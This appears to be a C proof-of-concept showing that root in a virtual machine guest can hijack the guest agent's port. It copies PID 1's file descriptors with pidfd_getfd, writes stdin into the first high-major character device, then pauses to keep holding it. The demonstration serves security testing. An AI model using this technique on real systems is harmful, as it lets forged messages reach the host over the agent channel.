/*
 * take-port.c - What root in a guest can do: takes the agent's port from PID 1 and says there
 * what comes on stdin
 */
#include <stdio.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <unistd.h>

#ifndef SYS_pidfd_open
#define SYS_pidfd_open 434
#endif
#ifndef SYS_pidfd_getfd
#define SYS_pidfd_getfd 438
#endif

int main(void)
{
	static char text[65552];
	int agent = syscall(SYS_pidfd_open, 1, 0);
	ssize_t length = read(0, text, sizeof text);

	if (agent < 0 || length <= 0)
		return 1;
	for (int number = 0; number < 64; number++) {
		int fd = syscall(SYS_pidfd_getfd, agent, number, 0);
		struct stat st;

		/* Majors below 230 are of devices that every Linux has: memory, terminals. */
		if (fd < 0 || fstat(fd, &st) < 0 || !S_ISCHR(st.st_mode) || major(st.st_rdev) < 230)
			continue;
		if (write(fd, text, length) == length) {
			pause();
			return 0;
		}
	}
	fputs("PID 1 has no port\n", stderr);
	return 2;
}
